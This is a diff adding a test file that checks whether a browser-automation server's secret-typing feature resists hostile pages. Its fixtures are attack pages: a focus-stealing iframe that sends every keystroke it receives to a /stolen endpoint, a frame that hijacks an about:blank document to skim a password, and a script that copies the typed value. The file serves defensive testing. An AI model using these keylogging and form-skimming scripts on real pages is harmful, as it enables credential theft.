@@ -1,0 +1,300 @@
+// A secret typed by write, attacked as a hostile page would: a frame that steals the focus gets no
+// keystroke of it, an about:blank frame of another origin is refused, an allowed https URL does not
+// open http, scripts around the write give nothing back, and no read brings a piece of it back.
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { decode } from "../../src/secrets/png-blank.ts";
+import { type Fixture, html, serveFixture } from "../support/fixtures.ts";
+import { mcpClient } from "../support/mcp.ts";
+import { endAll, logLines, startServer, type TestServer } from "../support/server.ts";
+
+const W = "secrets-attacks";
+const PASSWORD = "Zq7-Wv9xj-Kp4wX";
+const TOKEN = "tls-only-9Vb2qT";
+const stolen: string[] = [];
+const bodies: string[] = [];
+let server: TestServer;
+let site: Fixture;
+
+// The bound host's login page: the field reports only how long its value is, in the title.
+const LOGIN = `<title>Login</title><label>Password <input id=pw type=password></label>
+<script>pw.addEventListener("input", () => { document.title = "len " + pw.value.length; });</script>`;
+// A focus thief: takes the focus back whenever its window loses it, and reports every key it gets.
+const THIEF = `<input id=steal autofocus><script>
+const grab = () => setTimeout(() => { window.focus(); steal.focus(); }, 0);
+window.addEventListener("blur", grab);
+document.addEventListener("focusout", grab);
+setInterval(() => { if (document.activeElement !== steal || !document.hasFocus()) { window.focus(); steal.focus(); } }, 2);
+document.addEventListener("keydown", (e) => fetch("/stolen?k=" + encodeURIComponent(e.key)));
+</script>`;
+
+/** Every 4-character run of value. */
+const pieces = (value: string) => [...value].slice(0, -3).map((_, i) => value.slice(i, i + 4));
+
+async function call(path: string, body: unknown = {}) {
+  const res = await server.call("POST", path, body, W);
+  bodies.push(JSON.stringify(res.body));
+  return res;
+}
+
+beforeAll(async () => {
+  site = serveFixture({
+    "/login": () => html(LOGIN),
+    "/ad-login": () =>
+      html(`${LOGIN}<iframe src="${site.url("/thief", "ads.example.test")}" width=300 height=80></iframe>`),
+    "/thief": () => html(THIEF),
+    "/evil-top": () =>
+      html(
+        `<title>Evil</title>${THIEF}<iframe id=f src="${site.url("/login")}" width=400 height=120></iframe>`,
+      ),
+    // A third-party frame that turns itself into about:blank, filled with a sign-in form by a sibling of its origin.
+    "/blank-attack": () =>
+      html(`<title>Blank</title><iframe id=x name=x src="${site.url("/self-blank", "ads.example.test")}"></iframe>
+<iframe src="${site.url("/filler", "ads.example.test")}"></iframe>`),
+    "/self-blank": () => html(`<script>location.href = "about:blank";</script>`),
+    "/filler": () =>
+      html(`<script>const fill = () => { const d = parent.frames.x.document;
+if (!d || d.getElementById("pw")) return;
+d.body.innerHTML = '<label>Password <input id=pw type=password></label>';
+d.getElementById("pw").addEventListener("input", (e) => fetch("/stolen?k=" + encodeURIComponent(e.target.value)));
+}; setInterval(() => { try { fill(); } catch (e) {} }, 20);</script>`),
+    // Echoes every prefix of what is typed, and puts the first six characters in the title.
+    "/echo": () =>
+      html(`<title>Echo</title><label>Token <input id=tok></label><div id=echo></div><script>
+tok.addEventListener("input", () => { let o = ""; for (let k = 1; k <= tok.value.length; k++) o += tok.value.slice(0, k) + " ";
+echo.textContent = o; document.title = "Echo " + tok.value.slice(0, 6); });</script>`),
+    // A big text field at a known place, black on white.
+    "/big": () =>
+      html(`<title>Big</title><style>body { margin: 0; background: #fff; }
+#big { position: absolute; left: 40px; top: 40px; width: 500px; height: 80px; font: 48px monospace; color: #000; background: #fff; border: 0; outline: 0; }
+#note { position: absolute; left: 40px; top: 200px; font: 48px monospace; }</style><input id=big><div id=note>visible</div>`),
+    // A rich editor beside a focus thief: it reports how long its text is.
+    "/editor": () =>
+      html(`<title>Editor</title><div id=ed contenteditable style="width:300px;height:40px">old</div>
+<iframe src="${site.url("/thief", "ads.example.test")}"></iframe>
+<script>ed.addEventListener("input", () => { document.title = "len " + ed.textContent.length; });</script>`),
+    "/opener": () => html(`<title>Opener</title><script>var w = null;</script>`),
+    "/stolen": (req) => {
+      stolen.push(new URL(req.url).searchParams.get("k") ?? "");
+      return new Response("ok");
+    },
+  });
+  server = await startServer({
+    configure: (c) => {
+      c.secrets.entries = {
+        app: {
+          description: "the fixture app's password",
+          allowed_urls: ["app.example.test"],
+          keys: { password: { value: PASSWORD } },
+        },
+        tls: {
+          description: "only over https",
+          allowed_urls: [`https://app.example.test:${site.port}/`],
+          keys: { token: { value: TOKEN } },
+        },
+      };
+    },
+  });
+});
+
+afterAll(async () => {
+  await endAll(server, [W]);
+  await server.close();
+  site.stop();
+  const everything = [...bodies, ...logLines].join("\n");
+  for (const v of [PASSWORD, TOKEN, btoa(PASSWORD), ...pieces(PASSWORD)]) expect(everything).not.toContain(v);
+});
+
+describe("focus theft", () => {
+  test("an ad iframe on the bound host's page that steals the focus gets no keystroke", async () => {
+    stolen.length = 0;
+    expect((await call("/browser/navigate", { url: site.url("/ad-login") })).status).toBe(200);
+    await Bun.sleep(300);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    expect(w.body.title).toBe(`len ${PASSWORD.length}`);
+    await Bun.sleep(300);
+    expect(stolen).toEqual([]);
+  });
+
+  test("a hostile top page around a bound-host frame gets no keystroke", async () => {
+    stolen.length = 0;
+    expect(
+      (await call("/browser/navigate", { url: site.url("/evil-top", "evil.example.test") })).status,
+    ).toBe(200);
+    expect((await call("/browser/switch", { frame: { css: "#f" } })).status).toBe(200);
+    await Bun.sleep(300);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    expect(w.body.title).toBe(`len ${PASSWORD.length}`);
+    await Bun.sleep(300);
+    expect(stolen).toEqual([]);
+  });
+});
+
+test("a rich editor takes the secret whole, emptied first, with a focus thief beside it", async () => {
+  stolen.length = 0;
+  expect((await call("/browser/navigate", { url: site.url("/editor") })).status).toBe(200);
+  await Bun.sleep(300);
+  const w = await call("/browser/write", {
+    selector: { css: "#ed" },
+    secret: { name: "app", key: "password" },
+  });
+  expect(w.status).toBe(200);
+  expect(w.body.title).toBe(`len ${PASSWORD.length}`);
+  const read = await call("/browser/read");
+  expect(JSON.stringify(read.body)).toContain("[hidden]");
+  await Bun.sleep(300);
+  expect(stolen).toEqual([]);
+});
+
+describe("where a document is", () => {
+  test("an about:blank frame of another origin inside the bound host's page is refused", async () => {
+    stolen.length = 0;
+    expect((await call("/browser/navigate", { url: site.url("/blank-attack") })).status).toBe(200);
+    await Bun.sleep(500);
+    expect((await call("/browser/switch", { frame: { css: "#x" } })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(400);
+    expect(w.body.error).toContain("may not be typed on ads.example.test");
+    await Bun.sleep(300);
+    expect(stolen).toEqual([]);
+    await call("/browser/switch", { frame: null });
+  });
+
+  test("a secret bound to an https URL is refused on http of the same host and port", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/login") })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "tls", key: "token" },
+    });
+    expect(w.status).toBe(400);
+    expect(w.body.error).toContain("may not be typed on app.example.test (http:");
+    expect((await call("/browser/read")).body.title).toBe("Login");
+  });
+});
+
+describe("scripts around the write", () => {
+  test("a write is refused on a document a script armed with a copier", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/login") })).status).toBe(200);
+    const armed = await call("/browser/script", {
+      script: `pw.addEventListener("input", () => { document.title = btoa(pw.value); }); return true`,
+    });
+    expect(armed.body.result).toBe(true);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(400);
+    expect(w.body.error).toContain("a script");
+    expect((await call("/browser/read")).body.title).toBe("Login");
+  });
+
+  test("another tab's window.open reference cannot read the typed field", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/opener") })).status).toBe(200);
+    const opened = await call("/browser/script", {
+      script: `w = window.open("${site.url("/login")}"); return true`,
+    });
+    expect(opened.body.result).toBe(true);
+    await Bun.sleep(500);
+    expect((await call("/browser/switch", { tab: 1 })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    expect((await call("/browser/switch", { tab: 0 })).status).toBe(200);
+    const read = await call("/browser/script", { script: "w.document.getElementById('pw').value" });
+    expect(read.status).toBe(400);
+    expect(JSON.stringify(read.body)).not.toContain(PASSWORD);
+    await call("/browser/switch", { tab: 1 });
+    await call("/browser/switch", { tab: "close" });
+  });
+});
+
+describe("no piece comes back", () => {
+  test("an echoed and then edited secret gives no 4-character piece to any read", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/echo") })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#tok" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    expect(w.body.title).toBe("Echo [hidden]");
+    const read = await call("/browser/read");
+    const text = JSON.stringify(read.body);
+    for (const p of pieces(PASSWORD)) expect(text).not.toContain(p);
+    expect(read.body.elements.find((e: { name?: string }) => e.name === "Token").value).toBe("[hidden]");
+    // Edited in place: the field still reads as [hidden], not as the value with a letter in it.
+    const pressed = await call("/browser/interact/press", {
+      selector: { css: "#tok" },
+      keys: "ArrowLeft ArrowLeft Z",
+    });
+    expect(pressed.status).toBe(200);
+    const value = await call("/browser/extract", { selector: { css: "#tok" }, get: "value" });
+    expect(value.body.result).toBe("[hidden]");
+    const echo = await call("/browser/extract", { selector: { css: "#echo" } });
+    expect(echo.status).toBe(200);
+    expect(echo.body.result).toContain("Zq7");
+    for (const p of pieces(PASSWORD)) expect(echo.body.result).not.toContain(p);
+  });
+});
+
+describe("pictures", () => {
+  // How many pixels of the box are not plain white or the cover's grey (the text drawn there).
+  const inked = (base64: string, box: { x: number; y: number; w: number; h: number }) => {
+    const pic = decode(Buffer.from(base64, "base64"));
+    if (!pic) throw new Error("not a PNG this test reads");
+    let n = 0;
+    for (let y = box.y; y < box.y + box.h; y++) {
+      for (let x = box.x; x < box.x + box.w; x++) {
+        const p = (y * pic.width + x) * pic.bpp;
+        const [r, g, b] = [pic.rows[p], pic.rows[p + 1], pic.rows[p + 2]];
+        if (!(r === g && g === b && (r === 255 || r === 128))) n++;
+      }
+    }
+    return n;
+  };
+
+  test("a screenshot of a typed text field shows no text in its box; the rest of the page shows", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/big") })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#big" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    const shot = await call("/browser/screenshot");
+    expect(shot.status).toBe(200);
+    // The filed picture, as the agent's link would show it.
+    const files = [...new Bun.Glob("**/*.png").scanSync(server.dataDir as string)];
+    expect(files.length).toBe(1);
+    const png = (await Bun.file(`${server.dataDir}/${files[0]}`).bytes()).toBase64();
+    expect(inked(png, { x: 40, y: 40, w: 500, h: 80 })).toBe(0);
+    expect(inked(png, { x: 40, y: 200, w: 200, h: 50 })).toBeGreaterThan(50);
+    const print = await call("/browser/print");
+    expect(print.status).toBe(400);
+    expect(print.body.error).toContain("secret typed by write");
+  });
+});
+
+describe("MCP with secrets configured", () => {
+  test("read_page still gives the outline and screenshot the image", async () => {
+    const mcp = await mcpClient(server, W);
+    await call("/browser/navigate", { url: site.url("/login") });
+    const read = await mcp.tool("read_page");
+    expect(read.isError).toBeFalsy();
+    expect(read.content[0].type).toBe("text");
+    expect(read.content[0].text).toContain("textbox");
+    expect(() => JSON.parse(read.content[0].text)).toThrow();
+    const shot = await mcp.tool("screenshot");
+    expect(shot.content.some((c: { type: string }) => c.type === "image")).toBe(true);
+  });
+});
